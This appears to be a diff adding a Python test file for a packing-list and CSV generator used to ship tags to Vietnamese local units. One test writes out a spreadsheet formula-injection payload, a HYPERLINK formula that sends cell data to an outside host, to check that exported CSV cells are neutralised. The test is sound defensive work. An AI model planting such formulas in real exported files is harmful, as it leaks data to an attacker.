@@ -1,0 +1,105 @@
+"""Boxes that add up, labels that can be read, and a table that no spreadsheet runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from keytag.artwork import Artwork
+from keytag.documents.facts import PackingFacts, Parcel
+from keytag.documents.packing import boxes, packing_csv, packing_list
+from keytag.roster import Roster
+from tests.documents.conftest import HEAD
+from tests.documents.reading import assert_conforms, own_words, pictures
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+def packing(roster: Roster, per_box: int = 500) -> PackingFacts:
+    parcels = [Parcel(u.key, u.title, u.address.value if u.address else "", u.tags) for u in roster.units]
+    return PackingFacts(HEAD, tuple(parcels), per_box)
+
+
+def rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+@given(
+    tags=st.lists(st.integers(min_value=0, max_value=5000), max_size=6), per_box=st.integers(min_value=1, max_value=900)
+)
+@settings(deadline=None, derandomize=True)
+def test_boxes_hold_exactly_what_is_packed(tags: list[int], per_box: int) -> None:
+    parcels = tuple(Parcel(str(i), str(i), "", n) for i, n in enumerate(tags))
+    found = boxes(PackingFacts(HEAD, parcels, per_box))
+    for parcel in parcels:
+        own = [box for box in found if box.parcel == parcel]
+        assert sum(box.tags for box in own) == parcel.tags
+        assert [box.number for box in own] == list(range(1, len(own) + 1))
+        assert all(box.of == len(own) and 0 < box.tags <= per_box for box in own)
+        assert all(box.tags == per_box for box in own[:-1])
+
+
+def test_a_label_for_every_box(shipped_roster: Roster, artworks: list[Artwork]) -> None:
+    facts = packing(shipped_roster)
+    data = packing_list(facts, artworks)
+    assert_conforms(data)
+    expected = boxes(facts)
+    assert [len(page) for page in pictures(data)] == [10, 10, 10, len(expected) - 30]
+    assert {use.scale for page in pictures(data) for use in page} == {0.68}
+    words = " ".join(own_words(data))
+    for box in expected:
+        assert box.parcel.title[1:] in words
+    assert words.count("box") == len(expected)
+    assert "140" in words and "4 / 4" in words
+
+
+@given(title=st.text(max_size=500), address=st.text(max_size=900))
+@settings(deadline=None, derandomize=True, max_examples=15)
+def test_whatever_the_address_it_stays_on_its_label(title: str, address: str) -> None:
+    facts = PackingFacts(HEAD, (Parcel("a", title, address, 700),), 500)
+    data = packing_list(facts, [])
+    assert len(pictures(data)) == 1
+    assert_conforms(data)
+
+
+def test_nothing_to_pack_and_boxes_without_room_are_refused() -> None:
+    with pytest.raises(ValueError, match="nothing to pack"):
+        packing_list(PackingFacts(HEAD, (Parcel("a", "a", "", 0),)), [])
+    with pytest.raises(ValueError, match="at least one tag"):
+        boxes(PackingFacts(HEAD, (), 0))
+
+
+def test_the_table_counts_boxes(shipped_roster: Roster) -> None:
+    text = packing_csv(packing(shipped_roster))
+    assert text.startswith("\ufeff") and text.count("\r\n") == text.count("\n") == 18
+    head, first, *rest = rows(text)
+    assert head[1] == "Đơn vị (unit)"
+    assert first == [
+        "thi-tran-dak-doa",
+        "Thị trấn Đak Đoa",
+        "UBND thị trấn Đak Đoa, đường Nguyễn Huệ",
+        "1640",
+        "4",
+        "140",
+    ]
+    assert sum(int(row[3]) for row in [first, *rest]) == 15_000
+
+
+@pytest.mark.parametrize("start", FORMULA)
+def test_formulas_are_neutralised(start: str) -> None:
+    attack = f'{start}HYPERLINK("http://198.51.100.1/?"&A1,"x")'
+    facts = PackingFacts(HEAD, (Parcel("a", "xã A", attack, 1),))
+    assert rows(packing_csv(facts))[1][2] == f"'{attack}"
+
+
+@given(title=st.text(max_size=40), address=st.text(max_size=40))
+@settings(deadline=None, derandomize=True, max_examples=200)
+def test_no_cell_begins_as_a_formula_and_no_text_is_lost(title: str, address: str) -> None:
+    cells = rows(packing_csv(PackingFacts(HEAD, (Parcel("a", title, address, 3),))))[1]
+    assert len(cells) == 6
+    assert not any(cell.startswith(FORMULA) for cell in cells)
+    assert cells[2].removeprefix("'") == address.removeprefix("'")
